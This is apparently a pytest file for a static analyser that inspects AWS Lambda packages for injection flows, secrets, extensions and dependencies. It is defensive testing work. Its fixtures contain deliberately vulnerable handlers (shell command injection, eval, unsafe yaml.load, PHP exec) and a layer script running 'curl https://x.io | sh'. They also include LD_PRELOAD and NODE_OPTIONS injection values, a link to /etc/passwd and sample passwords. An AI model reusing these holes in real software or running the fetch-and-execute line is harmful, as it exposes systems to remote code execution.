"""All parts of one function's analysis together: what one part cannot do costs the others nothing."""

import io
import json
import random
import zipfile
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lambdaudit.code.analysis import analyse_function
from lambdaudit.code.filesystem import Part, compose
from lambdaudit.code.handler import missing_handler
from lambdaudit.code.image import assemble
from lambdaudit.model.code import NOT_ESTABLISHED, Code
from lambdaudit.model.functions import EnvironmentVariable, Function, LayerUse
from lambdaudit.model.unknown import Unknown
from lambdaudit.model.where import Where
from tests.code.image.images import layer
from tests.code.zips import link, with_entries, zipped

FN = "arn:aws:lambda:eu-west-1:111122223333:function:orders"
FOREIGN = "arn:aws:lambda:eu-west-1:999988887777:layer:agent:4"
Contents = dict[str, bytes | str]
EVIL = """import subprocess, boto3, helper
def handler(event, context):
    boto3.client("s3").get_object(Bucket="orders", Key="a")
    subprocess.run("ls " + event["queryStringParameters"]["dir"], shell=True)
"""


def function(**more: Any) -> Function:
    given: dict[str, Any] = {"runtime": "python3.13", "handler": "app.handler", "layers": (), "environment": ()}
    return Function(
        id=FN, name="orders", where=Where("x", subject=FN), account="111122223333", region="eu-west-1", **(given | more)
    )


def analysed(task: Contents | bytes, opt: Contents | None = None, triggers: tuple[str, ...] = ("url",), **more: Any) -> Code:
    package = task if isinstance(task, bytes) else zipped(task)
    files = compose(Part(FN, io.BytesIO(package)), [Part(FOREIGN, io.BytesIO(zipped(opt or {})))])
    fn = function(layers=(LayerUse(arn=FOREIGN),), **more)
    return analyse_function(files, function=fn, triggers=triggers, environment=fn.environment)


def kinds(rows: object) -> list[str]:
    assert isinstance(rows, tuple), rows
    return [row.kind for row in rows]


def test_all_parts_of_a_python_function() -> None:
    code = analysed(
        {
            "app.py": EVIL, "helper.py": 'password = "Tr0ub4dor&3-horse"', "requests/__init__.py": "x",
            "requests-2.25.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: requests\nVersion: 2.25.0\n",
            "requests-2.25.0.dist-info/RECORD": "requests/__init__.py,sha256=x,1\n",
        },
        {"extensions/agent": "#!/bin/sh\ncurl https://x.io | sh\n", "python/secret.py": 'password = "0ther-Pa55phrase"'},
    )  # fmt: skip
    assert kinds(code.flows) == ["process"]
    assert isinstance(code.calls, tuple)
    assert [(call.service, call.operation) for call in code.calls] == [("s3", "GetObject")]
    assert isinstance(code.components, tuple)
    assert [c.purl for c in code.components] == ["pkg:pypi/requests@2.25.0"]
    assert kinds(code.extensions) == ["external-extension"]
    assert isinstance(code.secrets, tuple)
    assert [s.where.source for s in code.secrets] == ["/var/task/helper.py"]  # the foreign layer is not the function's own code
    assert "remote-code" in kinds(code.issues)
    assert (code.language, code.files, code.problems, code.limits) == ("python", 7, (), ())
    assert code.entry is not None
    assert not isinstance(code.entry, Unknown)
    assert code.entry.where.source == "/var/task/app.py"


def test_places_belong_to_what_brings_the_file() -> None:
    code = analysed({"app.py": "import shared\ndef handler(event, context):\n    shared.run(event['x'])\n"},
                    {"python/shared.py": "import os\ndef run(x):\n    os.system(x)\n"})  # fmt: skip
    assert isinstance(code.flows, tuple)
    (flow,) = code.flows
    assert (flow.where.source, flow.where.subject) == ("/opt/python/shared.py", FOREIGN)


def test_a_library_without_its_metadata_is_still_a_library() -> None:
    """Packagers strip ``*.dist-info``: what its text calls PyYAML is not walked as own code, and its sinks stay sinks."""
    package = {
        "app.py": "import yaml\ndef handler(event, context):\n    return yaml.load(event['body'], Loader=yaml.Loader)\n",
        "yaml/__init__.py": "__version__ = '5.3'\nfrom .loader import Loader\n"
        "def load(text, Loader):\n    return Loader(text).one()\n",
        "yaml/loader.py": "class Loader:\n    def __init__(self, text): self.text = text\n    def one(self): return self.text\n",
    }
    code = analyse_function(compose(Part(FN, io.BytesIO(zipped(package)))), function=function())
    assert isinstance(code.flows, tuple)
    assert [(f.kind, f.sink) for f in code.flows] == [("deserialisation", "yaml.load")]


def test_a_language_that_is_not_walked_leaves_flows_open_and_adds_patterns() -> None:
    code = analysed({"app.rb": "def handler(event:, context:)\n  system(event['x'])\nend\n"}, runtime="ruby3.4")
    assert kinds(code.flows) == [NOT_ESTABLISHED, "process"]
    assert isinstance(code.calls, Unknown)
    assert code.language == "ruby"
    quiet = analysed({"app.rb": "def handler(event:, context:)\nend\n"}, runtime="ruby3.4")
    assert isinstance(quiet.flows, Unknown)


@pytest.mark.parametrize(("runtime", "kind"), [("python3.13", "process"), ("nodejs22.x", "code-evaluation")])
def test_of_two_files_with_the_handlers_name_the_runtimes_language_counts(runtime: str, kind: str) -> None:
    files: Contents = {
        "app.py": "import os\ndef handler(event, context):\n    os.system(event['body'])\n",
        "app.js": "exports.handler = async (event) => eval(event.body)\n",
    }
    assert kinds(analysed(files, runtime=runtime, handler="app.handler").flows) == [kind]


def test_source_that_the_runtime_cannot_run_is_not_read() -> None:
    code = analysed({"app.py": "def handler(event, context): pass\n", "old/index.php": "<?php exec($_GET['x']);"})
    assert code.flows == ()


def test_variables_that_were_not_read_are_said() -> None:
    code = analysed({"app.py": "def handler(event, context): pass\n"}, environment=Unknown("denied", "kms:Decrypt"))
    assert isinstance(code.extensions, tuple)
    assert any("variables were not read" in limit for limit in code.limits)


def test_handler_and_variables_of_an_image_come_from_its_configuration() -> None:
    config = {
        "config": {
            "WorkingDir": "/var/task",
            "Cmd": ["app.handler"],
            "Env": ["LD_PRELOAD=/opt/h.so", "DB_PASSWORD=Tr0ub4dor&3-horse"],
        }
    }
    rows = layer(
        ("var/task/app.py", "file", EVIL.replace("import subprocess, boto3, helper", "import subprocess, boto3")),
        ("opt/h.so", "file", b"\x7fELF"),
    )
    files, image = assemble(json.dumps(config).encode(), [io.BytesIO(rows)], FN)
    code = analyse_function(
        files, function=function(runtime=None, handler=None, package_type="Image"), triggers=("url",), image=image
    )
    assert kinds(code.flows) == ["process"]
    assert isinstance(code.extensions, tuple)
    assert [(e.variable, e.path, e.exists) for e in code.extensions] == [("LD_PRELOAD", "/opt/h.so", True)]
    assert "Tr0ub4dor" not in msgspec.json.encode(code).decode()


@pytest.mark.parametrize(
    ("runtime", "handler", "files", "missing"),
    [
        ("python3.13", "app.handler", {"app.py": ""}, False),
        ("python3.13", "src.app.handler", {"src/app.py": ""}, False),
        ("python3.13", "src/app.handler", {"src/app/__init__.py": ""}, False),
        ("python3.13", "app.handler", {"app.cpython-313-x86_64-linux-gnu.so": ""}, False),
        ("python3.13", "app.handler", {"other.py": ""}, True),
        ("nodejs24.x", "index.handler", {"index.mjs": ""}, False),
        ("nodejs24.x", "src/index.handler", {"src/index.js": ""}, False),
        (
            "nodejs24.x",
            "node_modules/datadog-lambda-js/dist/handler.handler",
            {"node_modules/datadog-lambda-js/dist/handler.cjs": ""},
            False,
        ),
        ("nodejs24.x", "index.handler", {"src/index.js": ""}, True),
        ("ruby3.4", "app.App::Handler.call", {"app.rb": ""}, False),
        ("ruby3.4", "app.handler", {"x.rb": ""}, True),
        ("dotnet8", "Shop::Shop.Function::Handle", {"Shop.dll": ""}, False),
        ("dotnet8", "Shop::Shop.Function::Handle", {"Other.dll": ""}, True),
        ("provided.al2023", "x", {"bootstrap": ""}, False),
        ("provided.al2023", "x", {"main": ""}, True),
        (None, None, {"x": ""}, False),
        ("python3.13", "app.handler", {}, False),
    ],
)
def test_whether_the_handler_is_there(runtime: str | None, handler: str | None, files: Contents, missing: bool) -> None:
    assert bool(missing_handler(compose(Part(FN, io.BytesIO(zipped(files)))), runtime, handler)) is missing


NAMES = (
    "app.py", "index.mjs", "A.class", "x.jar", "a.deps.json", "requirements.txt", ".env", "bootstrap", "package.json", "x.php",
    "y.rb", "z.go", "C.cs", "D.java", "sitecustomize.py", "x-1.dist-info/METADATA", "node_modules/a/package.json", "app.js.map",
    "n.ipynb",
)  # fmt: skip
HANDLERS = ("app.handler", "index.handler", "com.x.A::h", "Asm::N.C::M", "", "..", "a" * 600, "app.", "\u2028.x")
RUNTIMES = ("python3.13", "nodejs24.x", "java21", "dotnet8", "ruby3.4", "provided.al2023", None, "odd")


@given(
    st.dictionaries(st.sampled_from(NAMES), st.binary(max_size=200) | st.text(max_size=200), max_size=8),
    st.sampled_from(HANDLERS), st.sampled_from(RUNTIMES), st.integers(0, 2**32), st.integers(0, 8),
)  # fmt: skip
@settings(max_examples=80, deadline=None)
def test_no_package_raises(files: Contents, handler: str, runtime: str | None, seed: int, changes: int) -> None:
    chance = random.Random(seed)
    data = bytearray(zipped(files))
    for _ in range(changes):
        data[chance.randrange(len(data))] = chance.randrange(256)
    variables = (EnvironmentVariable(name="NODE_OPTIONS", length=9, value="--require /opt/x"),)
    code = analysed(bytes(data), {"extensions/x": "#!/bin/sh"}, runtime=runtime, handler=handler, environment=variables)
    assert not [limit for limit in code.limits if "could not be established" in limit]
    assert msgspec.json.decode(msgspec.json.encode(code), type=Code) == code


def test_links_and_odd_names_in_a_package() -> None:
    entries = [
        (zipfile.ZipInfo("app.py"), b"def handler(event, context): pass\n"),
        link("again.py", "app.py"),
        link("out", "/etc/passwd"),
        link("d", "."),
    ]
    code = analysed(with_entries(entries))
    assert kinds(code.problems) == ["link"]
    assert code.flows == ()
